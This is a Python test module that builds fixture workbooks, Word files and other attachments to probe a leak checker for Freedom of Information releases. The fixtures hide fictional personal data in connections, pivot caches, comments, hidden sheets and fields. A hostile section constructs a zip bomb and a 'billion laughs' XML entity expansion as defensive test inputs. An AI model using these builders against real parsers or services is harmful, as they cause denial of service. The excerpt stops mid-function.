"""Second blind probe of the attachments check: what the first probe had less of.

Each builder makes one file in code, as an officer's real attachment is: Power Query connections, external links,
pivot caches, threaded comments and rule-hidden text in workbooks; content controls, fields, linked and embedded
objects, footnotes and mail merge in Word; chart workbooks, hidden-slide notes, modern comments and masters in
PowerPoint; BOMs, semicolons, NHS numbers and formula injection in CSV; bookmarks, unplaced form fields and
attachment annotations in PDF; and hostile files. About a third hide nothing (false alarms matter: an officer who
sees amber on every file ignores amber). BUILDERS holds what an experienced FOI officer expects of each, written
down before the checker's code was read; tests/fixtures/release-blind2/README.md has the first-run confusion table
and the table after the fixes. Run this module as a script to print the table (`-v` lists findings):

    .venv/bin/python tests/test_release_blind2.py

First run, before any fix (52 files: 13 clean, 34 leaks, 5 hostile):

    clean files called green      11 / 13   false alarms: clean_chart_deck.pptx, clean_service_numbers.csv
    caught at expected severity   31 / 39
    caught too softly (amber)      3 / 39   hidden_name_contact.xlsx, chart_workbook_extra_rows.pptx,
                                            unplaced_form_field.pdf
    missed                         5 / 39   power_query_connection.xlsx, linked_image_share.docx,
                                            mail_merge_source.docx, outline_names.pdf, white_rule.xlsx

After the fixes: 13 / 13 clean files green, 39 / 39 caught at the expected severity.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import docx
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table
from PIL import Image, ImageDraw
from test_release_blind import (
    A_NS,
    LETTER_LINES,
    OD_REL,
    OFFICE,
    P_NS,
    _case_book,
    _info,
    _letter,
    _odf,
    _pdf,
    _pptx,
    _slide,
    _sp,
    _stream,
    _text_page_objs,
)

ROOT = Path(__file__).resolve().parent.parent
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

STAFF = ["Gareth Pryce", "Moira Lennox", "Tobias Hartley", "Nia Okafor", "Owen Castell", "Rhian Mathias"]
TEAMS = ["Adult Social Care", "Children's Services", "Housing"]

# ---------------------------------------------------------------------------------------------------
# zip helpers


def _edit(path: Path, replace: dict | None = None, add: dict | None = None, drop: set[str] | None = None) -> Path:
    """Rewrite a package: replace members (a str, bytes or a str->str function), add and drop members."""
    replace, add, drop = replace or {}, add or {}, drop or set()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(path.read_bytes())) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in zin.infolist():
            if item.filename in drop:
                continue
            data: bytes | str = zin.read(item.filename)
            if item.filename in replace:
                new = replace[item.filename]
                data = new(data.decode("utf-8")) if callable(new) else new
            z.writestr(item, data.encode("utf-8") if isinstance(data, str) else data)
        for name, data in add.items():
            z.writestr(name, data.encode("utf-8") if isinstance(data, str) else data)
    path.write_bytes(out.getvalue())
    return path


def _before(tag: str, text: str):
    return lambda s: s.replace(tag, text + tag, 1)


def _ct(part: str, ctype: str) -> str:
    return f'<Override PartName="{part}" ContentType="{ctype}"/>'


def _rels(*rels: str) -> str:
    return f'{XML}<Relationships xmlns="{PKG}">' + "".join(rels) + "</Relationships>"


def _rel(rid: str, kind: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'


def _xlsx_bytes(wb: Workbook) -> bytes:
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


# ---------------------------------------------------------------------------------------------------
# spreadsheets: clean


def clean_print_titles_xlsx(d: Path) -> Path:
    """A case export with frozen panes, a filter, a print area and print titles (names Excel keeps, hidden or not)."""
    wb = _case_book()
    ws = wb.active
    ws.freeze_panes = "B2"
    ws.print_title_rows = "1:1"
    ws.print_area = f"A1:F{ws.max_row}"
    wb.save(p := d / "clean_print_titles.xlsx")
    return p


def clean_protected_sheet_xlsx(d: Path) -> Path:
    """A published budget table, sheet protected with a password so nobody edits the figures by mistake."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Budget"
    ws.append(["Service", "2024/25 budget (£k)", "Outturn (£k)"])
    for row in [("Libraries", 1795, 1802), ("Parks", 2305, 2250), ("Leisure", 2990, 3011), ("Total", 7090, 7063)]:
        ws.append(list(row))
    ws.protection.sheet = True
    ws.protection.password = "Budget2025"
    wb.save(p := d / "clean_protected_sheet.xlsx")
    return p


def clean_grouped_expanded_xlsx(d: Path) -> Path:
    """Spend by service with detail rows grouped under each service but left expanded (nothing hidden)."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Spend"
    ws.append(["Service / line", "Spend (£)"])
    rows = [("Highways", 412000, 0), ("Resurfacing", 300000, 1), ("Gully cleaning", 112000, 1),
            ("Parks", 205500, 0), ("Grounds maintenance", 180000, 1), ("Play equipment", 25500, 1)]
    for name, amount, level in rows:
        ws.append([name, amount])
        if level:
            ws.row_dimensions[ws.max_row].outline_level = 1
    wb.save(p := d / "clean_grouped_expanded.xlsx")
    return p


# ---------------------------------------------------------------------------------------------------
# spreadsheets: leaks


def power_query_connection_xlsx(d: Path) -> Path:
    """A table loaded by Power Query: connections.xml names the housing database server, a login, the query
    selecting tenants' names and addresses, and an .odc file in an officer's own folder."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Arrears by ward"
    ws.append(["Ward", "Tenancies in arrears", "Total arrears (£)"])
    for row in [("Abbey", 112, 48210), ("Castle", 87, 39115), ("Riverside", 140, 61002)]:
        ws.append(list(row))
    wb.save(p := d / "power_query_connection.xlsx")
    conns = (
        f'{XML}<connections xmlns="{MAIN}">'
        '<connection id="1" keepAlive="1" name="Query - Arrears" description="Connection to the \'Arrears\' query '
        'in the workbook." type="5" refreshedVersion="8" background="1" saveData="1">'
        '<dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=Arrears;'
        'Extended Properties=&quot;&quot;" command="SELECT * FROM [Arrears]"/></connection>'
        '<connection id="2" odcFile="C:\\Users\\kpatel\\Documents\\My Data Sources\\AC-SQL02 Rents Arrears.odc" '
        'keepAlive="1" name="AC-SQL02 Rents" type="1" refreshedVersion="8" saveData="1">'
        '<dbPr connection="DRIVER=SQL Server;SERVER=AC-SQL02\\HOUSING;UID=kpatel;Trusted_Connection=Yes;'
        'APP=Microsoft Office;DATABASE=Rents" command="SELECT tenant_name, address, arrears FROM dbo.Arrears"/>'
        "</connection></connections>")
    ct = "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"
    return _edit(p, {
        "[Content_Types].xml": _before("</Types>", _ct("/xl/connections.xml", ct)),
        "xl/_rels/workbook.xml.rels": _before("</Relationships>", _rel(
            "rIdCn", f"{OD_REL}/connections", "connections.xml")),
    }, {"xl/connections.xml": conns})


def external_link_cached_xlsx(d: Path) -> Path:
    """Totals pulled from another workbook on the HR share; the external link keeps cached values of that
    workbook's cells: staff names beside their days of sickness."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Sickness summary"
    ws.append(["Measure", "Value"])
    ws.append(["Staff with 20+ days' sickness", "=COUNTIF([1]Staff!$B$2:$B$7,\">=20\")"])
    wb.save(p := d / "external_link_cached.xlsx")
    cells = "".join(
        f'<row r="{i + 2}"><cell r="A{i + 2}" t="str"><v>{n}</v></cell><cell r="B{i + 2}"><v>{14 + i * 5}</v></cell>'
        "</row>" for i, n in enumerate(STAFF))
    link = (f'{XML}<externalLink xmlns="{MAIN}" xmlns:r="{OD_REL}"><externalBook r:id="rId1"><sheetNames>'
            '<sheetName val="Staff"/></sheetNames><sheetDataSet><sheetData sheetId="0">'
            f"{cells}</sheetData></sheetDataSet></externalBook></externalLink>")
    ct = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    return _edit(p, {
        "[Content_Types].xml": _before("</Types>", _ct("/xl/externalLinks/externalLink1.xml", ct)),
        "xl/_rels/workbook.xml.rels": _before("</Relationships>", _rel(
            "rIdX1", f"{OD_REL}/externalLink", "externalLinks/externalLink1.xml")),
        "xl/workbook.xml": lambda s: s.replace(
            "</sheets>", f'</sheets><externalReferences><externalReference xmlns:r="{OD_REL}" r:id="rIdX1"/>'
            "</externalReferences>", 1),
    }, {
        "xl/externalLinks/externalLink1.xml": link,
        "xl/externalLinks/_rels/externalLink1.xml.rels": _rels(_rel(
            "rId1", f"{OD_REL}/externalLinkPath", "file:///\\\\ac-fs01\\HR$\\Sickness\\Sickness%202024-25.xlsx",
            external=True)),
    })


def _add_pivot(p: Path, cdef: str, recs: str, ptable: str) -> Path:
    ct = (_ct("/xl/pivotCache/pivotCacheDefinition1.xml",
              "application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheDefinition+xml")
          + _ct("/xl/pivotCache/pivotCacheRecords1.xml",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheRecords+xml")
          + _ct("/xl/pivotTables/pivotTable1.xml",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.pivotTable+xml"))
    return _edit(p, {
        "[Content_Types].xml": _before("</Types>", ct),
        "xl/workbook.xml": _before("</workbook>", f'<pivotCaches><pivotCache xmlns:r="{OD_REL}" cacheId="7" '
                                                  'r:id="rIdPC1"/></pivotCaches>'),
        "xl/_rels/workbook.xml.rels": _before("</Relationships>", _rel(
            "rIdPC1", f"{OD_REL}/pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")),
    }, {
        "xl/pivotCache/pivotCacheDefinition1.xml": cdef,
        "xl/pivotCache/pivotCacheRecords1.xml": recs,
        "xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels": _rels(_rel(
            "rId1", f"{OD_REL}/pivotCacheRecords", "pivotCacheRecords1.xml")),
        "xl/pivotTables/pivotTable1.xml": ptable,
        "xl/pivotTables/_rels/pivotTable1.xml.rels": _rels(_rel(
            "rId1", f"{OD_REL}/pivotCacheDefinition", "../pivotCache/pivotCacheDefinition1.xml")),
        "xl/worksheets/_rels/sheet1.xml.rels": _rels(_rel(
            "rId1", f"{OD_REL}/pivotTable", "../pivotTables/pivotTable1.xml")),
    })


def pivot_records_only_xlsx(d: Path) -> Path:
    """A pivot of complaints by team (counts only). The cache's field for the complainant keeps no shared items;
    each record holds the name, address and date of birth inline (as Excel writes fields it does not group)."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Pivot"
    ws.append(["Row Labels", "Count of Ref"])
    for row in [("Adult Social Care", 2), ("Children's Services", 2), ("Grand Total", 4)]:
        ws.append(list(row))
    wb.save(p := d / "pivot_records_only.xlsx")
    people = [("Ruth Abernathy", "14 Elm Road AT2 5QP", "1961-04-02"),
              ("Daniel Osei", "3 Pine Rd AT1 2XY", "1990-11-17"),
              ("Priya Chandran", "77 Station St AT4 9LB", "1978-06-30"),
              ("Alan Tuck", "2 Mill Lane AT3 1DD", "1955-01-09")]
    cdef = (f'{XML}<pivotCacheDefinition xmlns="{MAIN}" xmlns:r="{OD_REL}" r:id="rId1" recordCount="4">'
            '<cacheSource type="worksheet"><worksheetSource ref="A1:E5" sheet="Complaints 2024"/></cacheSource>'
            '<cacheFields count="5"><cacheField name="Ref" numFmtId="0"><sharedItems/></cacheField>'
            '<cacheField name="Team" numFmtId="0"><sharedItems count="2"><s v="Adult Social Care"/>'
            "<s v=\"Children's Services\"/></sharedItems></cacheField>"
            '<cacheField name="Complainant" numFmtId="0"><sharedItems/></cacheField>'
            '<cacheField name="Address" numFmtId="0"><sharedItems/></cacheField>'
            '<cacheField name="DOB" numFmtId="14"><sharedItems containsDate="1" containsNonDate="0"/></cacheField>'
            "</cacheFields></pivotCacheDefinition>")
    recs = (f'{XML}<pivotCacheRecords xmlns="{MAIN}" xmlns:r="{OD_REL}" count="4">'
            + "".join(f'<r><s v="CMP-{700 + i}"/><x v="{i % 2}"/><s v="{n}"/><s v="{a}"/><d v="{b}T00:00:00"/></r>'
                      for i, (n, a, b) in enumerate(people))
            + "</pivotCacheRecords>")
    ptable = (f'{XML}<pivotTableDefinition xmlns="{MAIN}" name="PivotTable1" cacheId="7" dataCaption="Values">'
              '<location ref="A1:B4" firstHeaderRow="1" firstDataRow="1" firstDataCol="1"/><pivotFields count="5">'
              '<pivotField dataField="1" showAll="0"/><pivotField axis="axisRow" showAll="0"><items count="3">'
              '<item x="0"/><item x="1"/><item t="default"/></items></pivotField><pivotField showAll="0"/>'
              '<pivotField showAll="0"/><pivotField showAll="0"/></pivotFields><rowFields count="1"><field x="1"/>'
              '</rowFields><dataFields count="1"><dataField name="Count of Ref" fld="0" subtotal="count"/>'
              "</dataFields></pivotTableDefinition>")
    return _add_pivot(p, cdef, recs, ptable)


def very_hidden_officers_xlsx(d: Path) -> Path:
    """The 2023 police case: a visible count by rank, and a very hidden sheet listing every officer by name,
    rank, collar number and unit."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Officers by rank"
    ws.append(["Rank", "Headcount"])
    for row in [("Constable", 2), ("Sergeant", 2), ("Inspector", 2)]:
        ws.append(list(row))
    hs = wb.create_sheet("Source")
    hs.append(["Surname", "Forename", "Rank", "Collar", "Unit"])
    for i, n in enumerate(STAFF):
        first, last = n.split()
        hs.append([last, first, ["Constable", "Sergeant", "Inspector"][i % 3], f"{3300 + i * 17}",
                   ["Response", "CID", "Surveillance"][i % 3]])
    hs.sheet_state = "veryHidden"
    wb.save(p := d / "very_hidden_officers.xlsx")
    return p


def hidden_name_contact_xlsx(d: Path) -> Path:
    """A defined name marked hidden (not listed in Name Manager) holding a witness's name and mobile."""
    wb = _case_book()
    wb.defined_names["_Contact"] = DefinedName("_Contact", attr_text='"Sarah Whitfield 07700 900123"', hidden=True)
    wb.save(p := d / "hidden_name_contact.xlsx")
    return p


def threaded_comment_xlsx(d: Path) -> Path:
    """A threaded comment (modern Excel) with a reply; the reply names a resident and her address."""
    wb = _case_book()
    ws = wb.active
    legacy = ("[Threaded comment]\n\nYour version of Excel allows you to read this threaded comment; however, any "
              "edits to it will get removed if the file is opened in a newer version of Excel.\n\nComment:\n"
              "    Is FOI-2025-1203 the noise one?\nReply:\n    Yes - Mrs Grace Okonjo, 14 Elm Road AT2 5QP, "
              "she complains weekly")
    ws["A5"].comment = Comment(legacy, "tc={6B1A9A7E-0C3E-4E55-9C1B-2E0F1A6C7D01}")
    wb.save(p := d / "threaded_comment.xlsx")
    tc = (f'{XML}<ThreadedComments xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments">'
          '<threadedComment ref="A5" dT="2025-03-11T09:12:00.00" personId="{11111111-1111-1111-1111-111111111111}" '
          'id="{6B1A9A7E-0C3E-4E55-9C1B-2E0F1A6C7D01}"><text>Is FOI-2025-1203 the noise one?</text>'
          '</threadedComment><threadedComment ref="A5" dT="2025-03-11T09:30:00.00" '
          'personId="{22222222-2222-2222-2222-222222222222}" id="{6B1A9A7E-0C3E-4E55-9C1B-2E0F1A6C7D02}" '
          'parentId="{6B1A9A7E-0C3E-4E55-9C1B-2E0F1A6C7D01}"><text>Yes - Mrs Grace Okonjo, 14 Elm Road AT2 5QP, '
          "she complains weekly</text></threadedComment></ThreadedComments>")
    persons = (f'{XML}<personList xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments">'
               '<person displayName="Kiran Patel" id="{11111111-1111-1111-1111-111111111111}" '
               'userId="kiran.patel@anytown.gov.uk" providerId="AD"/>'
               '<person displayName="Helen Drury" id="{22222222-2222-2222-2222-222222222222}" '
               'userId="helen.drury@anytown.gov.uk" providerId="AD"/></personList>')
    ms = "http://schemas.microsoft.com/office/2017/10/relationships"
    return _edit(p, {
        "[Content_Types].xml": _before("</Types>", _ct(
            "/xl/threadedComments/threadedComment1.xml", "application/vnd.ms-excel.threadedcomments+xml")
            + _ct("/xl/persons/person.xml", "application/vnd.ms-excel.person+xml")),
        "xl/_rels/workbook.xml.rels": _before("</Relationships>", _rel("rIdPer", f"{ms}/person",
                                                                       "persons/person.xml")),
        "xl/worksheets/_rels/sheet1.xml.rels": _before("</Relationships>", _rel(
            "rIdTc", "http://schemas.microsoft.com/office/2017/10/relationships/threadedComment",
            "../threadedComments/threadedComment1.xml")),
    }, {"xl/threadedComments/threadedComment1.xml": tc, "xl/persons/person.xml": persons})


def chart_hidden_sheet_xlsx(d: Path) -> Path:
    """A chart of overtime by officer on the visible sheet; its series refers to a hidden sheet of names."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Overtime"
    ws.append(["Overtime hours 2024/25, response team"])
    hs = wb.create_sheet("calc")
    hs.append(["Officer", "Hours"])
    for i, n in enumerate(STAFF):
        hs.append([n, 40 + i * 13])
    hs.sheet_state = "hidden"
    ch = BarChart()
    ch.add_data(Reference(hs, min_col=2, min_row=1, max_row=len(STAFF) + 1), titles_from_data=True)
    ch.set_categories(Reference(hs, min_col=1, min_row=2, max_row=len(STAFF) + 1))
    ws.add_chart(ch, "A3")
    wb.save(p := d / "chart_hidden_sheet.xlsx")
    return p


def _complaints(ws, name_col: bool = True) -> None:
    ws.append(["Ref", "Received", "Complainant", "Phone", "Outcome"] if name_col else ["Ref", "Received", "Outcome"])
    for i, n in enumerate(STAFF):
        row = [f"CMP-{900 + i}", dt.date(2025, 2, 3 + i)]
        row += [n, f"07700 900{400 + i * 7:03d}"] if name_col else []
        ws.append(row + [OUTCOMES[i % 3]])


OUTCOMES = ["Upheld", "Not upheld", "Partly upheld"]


def white_rule_xlsx(d: Path) -> Path:
    """Complainants' names made white on white by a conditional formatting rule (always true), not by the cells'
    own font: the cells look empty."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Complaints"
    _complaints(ws)
    ws.conditional_formatting.add(f"C2:D{ws.max_row}", FormulaRule(formula=["TRUE"], font=Font(color="FFFFFF")))
    wb.save(p := d / "white_rule.xlsx")
    return p


def semicolons_format_xlsx(d: Path) -> Path:
    """Names and phones kept in columns C and D but shown as nothing by the custom number format ';;;'."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Complaints"
    _complaints(ws)
    for col in "CD":
        for c in ws[col][1:]:
            c.number_format = ";;;"
    wb.save(p := d / "semicolons_format.xlsx")
    return p


def validation_hidden_range_xlsx(d: Path) -> Path:
    """An allocation log whose 'Officer' drop-down is fed from hidden columns Y:Z: staff names and mobiles."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Allocations"
    ws.append(["Case ref", "Received", "Officer"])
    for i in range(8):
        ws.append([f"FOI-2025-{1300 + i}", dt.date(2025, 4, 1 + i), ""])
    for i, n in enumerate(STAFF):
        ws.cell(row=i + 1, column=25, value=n)
        ws.cell(row=i + 1, column=26, value=f"07700 900{500 + i * 11:03d}")
    ws.column_dimensions["Y"].hidden = True
    ws.column_dimensions["Z"].hidden = True
    dv = DataValidation(type="list", formula1=f"$Y$1:$Y${len(STAFF)}")
    dv.add("C2:C9")
    ws.add_data_validation(dv)
    wb.save(p := d / "validation_hidden_range.xlsx")
    return p


def table_hidden_column_xlsx(d: Path) -> Path:
    """An Excel table (ListObject) of complaints whose 'Complainant' and 'Phone' columns are hidden."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Complaints"
    _complaints(ws)
    ws.add_table(Table(displayName="Complaints", ref=f"A1:E{ws.max_row}"))
    ws.column_dimensions["C"].hidden = True
    ws.column_dimensions["D"].hidden = True
    wb.save(p := d / "table_hidden_column.xlsx")
    return p


def grouped_collapsed_columns_xlsx(d: Path) -> Path:
    """Columns C:D (complainant, phone) grouped and collapsed under an outline: the sheet shows ref and outcome."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Complaints"
    _complaints(ws)
    ws.column_dimensions.group("C", "D", hidden=True, outline_level=1)
    wb.save(p := d / "grouped_collapsed_columns.xlsx")
    return p


# ---------------------------------------------------------------------------------------------------
# hostile


def zip_bomb_xlsx(d: Path) -> Path:
    """A workbook whose sheet XML inflates to ~100 MB of padding (a thousand-to-one ratio)."""
    wb = Workbook()
    wb.active.append(["Ward", "Count"])
    p = d / "zip_bomb.xlsx"
    wb.save(p)
    pad = b" " * (100 * 1024 * 1024)
    return _edit(p, {"xl/worksheets/sheet1.xml": lambda s: s.replace("<sheetData>", "<sheetData>" + pad.decode(), 1)})


def encrypted_xlsx(d: Path) -> Path:
    """A password-protected workbook: an OLE compound file holding EncryptionInfo and EncryptedPackage streams."""
    head = bytes.fromhex("D0CF11E0A1B11AE1") + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
    body = head.ljust(512, b"\x00") + "EncryptionInfo".encode("utf-16-le") + b"\x00" * 100
    body += "EncryptedPackage".encode("utf-16-le") + bytes(range(256)) * 16
    (p := d / "encrypted.xlsx").write_bytes(body)
    return p


def lying_extension_pdf(d: Path) -> Path:
    """A Word document with a comment naming a resident, saved under a .pdf name."""
    doc = _letter()
    doc.add_comment(doc.paragraphs[2].runs, "Requester is Mr Colin Barr of 12 Oak Way AT6 3RT", author="Kiran Patel")
    buf = io.BytesIO()
    doc.save(buf)
    (p := d / "lying_extension.pdf").write_bytes(buf.getvalue())
    return p


def empty_docx(d: Path) -> Path:
    """A 0-byte file named as a response letter (a failed upload or a crashed save)."""
    (p := d / "empty.docx").write_bytes(b"")
    return p


def billion_laughs_docx(d: Path) -> Path:
    """A docx whose document.xml declares nested entities (the 'billion laughs' expansion)."""
    p = d / "billion_laughs.docx"
    _letter().save(p)
    ents = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "' + f"&lol{i - 1 if i > 1 else ''};" * 10 + '">' for i in range(1, 10))
    return _edit(p, {"word/document.xml": lambda s: s.replace(
        "?>", f"?><!DOCTYPE lolz [{ents}]>", 1).replace("The information is in the table below.", "&lol9;", 1)})


# ---------------------------------------------------------------------------------------------------
# Word

DOC = "word/document.xml"
DOC_RELS = "word/_rels/document.xml.rels"
CT = "[Content_Types].xml"
CHART_NS = "http://schemas.openxmlformats.org/drawingml/2006/chart"


def _saved(doc: docx.Document, d: Path, name: str) -> Path:
    doc.save(p := d / name)
    return p


def _para_after(text: str, xml: str):
    """Insert xml right after the paragraph holding text."""
    def go(s: str) -> str:
        i = s.index(text)
        j = s.index("</w:p>", i) + len("</w:p>")
        return s[:j] + xml + s[j:]
    return go


def clean_rsid_docx(d: Path) -> Path:
    """A letter edited over several sessions: every paragraph and run carries revision-save ids (rsids) and one
    sentence is split across runs. Nothing tracked, nothing hidden."""
    p = _saved(_letter(), d, "clean_rsid.docx")

    def body(s: str) -> str:
        s = s.replace("<w:p>", '<w:p w:rsidR="00A1B2C3" w:rsidRDefault="00D4E5F6" w:rsidP="00A1B2C3">')
        s = s.replace("<w:r>", '<w:r w:rsidRPr="00F1E2D3">')
        return s.replace("<w:t>Thank you for your request for information received on 3 March 2025.</w:t>",
                         '<w:t xml:space="preserve">Thank you for your request for information </w:t></w:r>'
                         '<w:r w:rsidR="00C0FFEE"><w:t>received on 3 March 2025.</w:t>', 1)

    def settings(s: str) -> str:
        rsids = ('<w:rsids><w:rsidRoot w:val="00A1B2C3"/><w:rsid w:val="00A1B2C3"/><w:rsid w:val="00C0FFEE"/>'
                 '<w:rsid w:val="00D4E5F6"/><w:rsid w:val="00F1E2D3"/></w:rsids>')
        s = re.sub(r"<w:rsids>.*?</w:rsids>", "", s, flags=re.S)
        return s.replace("</w:settings>", rsids + "</w:settings>")

    return _edit(p, {DOC: body, "word/settings.xml": settings})


def clean_content_control_docx(d: Path) -> Path:
    """A template-based letter: an unfilled content control still shows Word's placeholder text."""
    p = _saved(_letter(), d, "clean_content_control.docx")
    sdt = ('<w:sdt><w:sdtPr><w:alias w:val="Your reference"/><w:tag w:val="yourref"/><w:id w:val="-1283742"/>'
           '<w:placeholder><w:docPart w:val="DefaultPlaceholder_-1854013440"/></w:placeholder><w:showingPlcHdr/>'
           '<w:text/></w:sdtPr><w:sdtContent><w:p><w:r><w:rPr><w:rStyle w:val="PlaceholderText"/></w:rPr>'
           "<w:t>Click or tap here to enter text.</w:t></w:r></w:p></w:sdtContent></w:sdt>")
    return _edit(p, {DOC: _para_after("Freedom of Information Act 2000 - response", sdt)})


def clean_title_page_docx(d: Path) -> Path:
    """A letter with a different first-page header (the council's name) and a running header on later pages."""
    doc = _letter()
    sec = doc.sections[0]
    sec.different_first_page_header_footer = True
    sec.first_page_header.paragraphs[0].text = "Anytown Council - Information Governance"
    sec.header.paragraphs[0].text = "FOI-2025-1203 - response"
    return _saved(doc, d, "clean_title_page.docx")


def first_page_header_mobile_docx(d: Path) -> Path:
    """A header on the first page only gives the case officer's name and personal mobile number."""
    doc = _letter()
    sec = doc.sections[0]
    sec.different_first_page_header_footer = True
    sec.first_page_header.paragraphs[0].text = "Case officer: Priya Nair - mobile 07700 900482"
    sec.header.paragraphs[0].text = "FOI-2025-1203 - response"
    return _saved(doc, d, "first_page_header_mobile.docx")


def field_code_path_docx(d: Path) -> Path:
    """An INCLUDETEXT field whose shown result is 'See annex A' but whose code names a legal file on a share,
    with the claimant's name in the file name."""
    p = _saved(_letter(), d, "field_code_path.docx")
    fld = ('<w:p><w:r><w:t xml:space="preserve">Further detail: </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/>'
           '</w:r><w:r><w:instrText xml:space="preserve"> INCLUDETEXT "\\\\\\\\ac-fs01\\\\Legal$\\\\Claims\\\\'
           'CL2291 Brannigan v Anytown Council.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/>'
           '</w:r><w:r><w:t>See annex A</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    return _edit(p, {DOC: _para_after("The information is in the table below.", fld)})


def _png(w: int = 120, h: int = 60, text: str | None = None) -> bytes:
    img = Image.new("RGB", (w, h), (235, 235, 235))
    if text:
        ImageDraw.Draw(img).text((4, 4), text, fill=(0, 0, 0))
    buf = io.BytesIO()
    img.save(buf, "PNG")
    return buf.getvalue()


def linked_image_share_docx(d: Path) -> Path:
    """A photo inserted with 'Link to file': the picture is a link to the ASB team's share, and the file name
    names the resident and her address."""
    doc = _letter()
    doc.add_picture(io.BytesIO(_png()))
    p = _saved(doc, d, "linked_image_share.docx")
    with zipfile.ZipFile(p) as z:
        rels = z.read(DOC_RELS).decode()
        media = [n for n in z.namelist() if n.startswith("word/media/")]
    rid = re.search(r'Id="(rId\d+)"[^>]*Target="media/', rels) or re.search(r'Id="(rId\d+)"[^>]*image', rels)
    assert rid
    target = "file:///\\\\ac-fs01\\ASB$\\Photos\\Janet%20Pryor%20-%2022%20Mill%20Lane.png"

    def fix_rels(s: str) -> str:
        return re.sub(rf'(<Relationship Id="{rid.group(1)}"[^>]*?)Target="media/[^"]+"',
                      lambda m: f'{m.group(1)}Target="{target}" TargetMode="External"', s)

    return _edit(p, {DOC_RELS: fix_rels, DOC: lambda s: s.replace(f'r:embed="{rid.group(1)}"',
                                                                  f'r:link="{rid.group(1)}"')},
                 drop=set(media))


def embedded_xlsx_ole_docx(d: Path) -> Path:
    """A letter with an Excel worksheet embedded as an icon (OLE); the workbook lists the people behind the
    figures with dates of birth and addresses."""
    p = _saved(_letter(), d, "embedded_xlsx_ole.docx")
    wb = Workbook()
    ws = wb.active
    ws.title = "Data"
    ws.append(["Name", "Date of birth", "Address", "Ward"])
    for i, n in enumerate(STAFF):
        ws.append([n, dt.date(1950 + i * 7, 1 + i, 3 + i), f"{3 + i} Cedar Row AT3 7J{'ABCDEF'[i]}", "Castle"])
    obj = ('<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="960"><v:shape id="_x0000_i1025" type="#_x0000_t75" '
           'style="width:72pt;height:48pt" o:ole=""/><o:OLEObject Type="Embed" ProgID="Excel.Sheet.12" '
           'ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1790000001" r:id="rIdOle1"/></w:object></w:r></w:p>')
    return _edit(p, {
        DOC: _para_after("The information is in the table below.", obj),
        DOC_RELS: _before("</Relationships>", _rel("rIdOle1", f"{OD_REL}/package",
                                                   "embeddings/Microsoft_Excel_Worksheet.xlsx")),
        CT: _before("</Types>", '<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-'
                                'officedocument.spreadsheetml.sheet"/>'),
    }, {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": _xlsx_bytes(wb)})


def footnote_docx(d: Path) -> Path:
    """A footnote credits the source of a figure: a named resident and her address."""
    p = _saved(_letter(), d, "footnote.docx")
    notes = (f'{XML}<w:footnotes xmlns:w="{W}"><w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:separator/>'
             '</w:r></w:p></w:footnote><w:footnote w:type="continuationSeparator" w:id="0"><w:p><w:r>'
             '<w:continuationSeparator/></w:r></w:p></w:footnote><w:footnote w:id="1"><w:p><w:r><w:rPr>'
             '<w:vertAlign w:val="superscript"/></w:rPr><w:footnoteRef/></w:r><w:r><w:t xml:space="preserve"> '
             "Figure supplied by Mrs Janet Pryor, 22 Mill Lane, AT4 6RB, chair of the residents' group.</w:t>"
             "</w:r></w:p></w:footnote></w:footnotes>")
    ref = '<w:r><w:rPr><w:vertAlign w:val="superscript"/></w:rPr><w:footnoteReference w:id="1"/></w:r>'
    return _edit(p, {
        DOC: lambda s: s.replace("<w:t>The information is in the table below.</w:t></w:r>",
                                 "<w:t>The information is in the table below.</w:t></w:r>" + ref, 1),
        DOC_RELS: _before("</Relationships>", _rel("rIdFn1", f"{OD_REL}/footnotes", "footnotes.xml")),
        CT: _before("</Types>", _ct("/word/footnotes.xml", "application/vnd.openxmlformats-officedocument."
                                                           "wordprocessingml.footnotes+xml")),
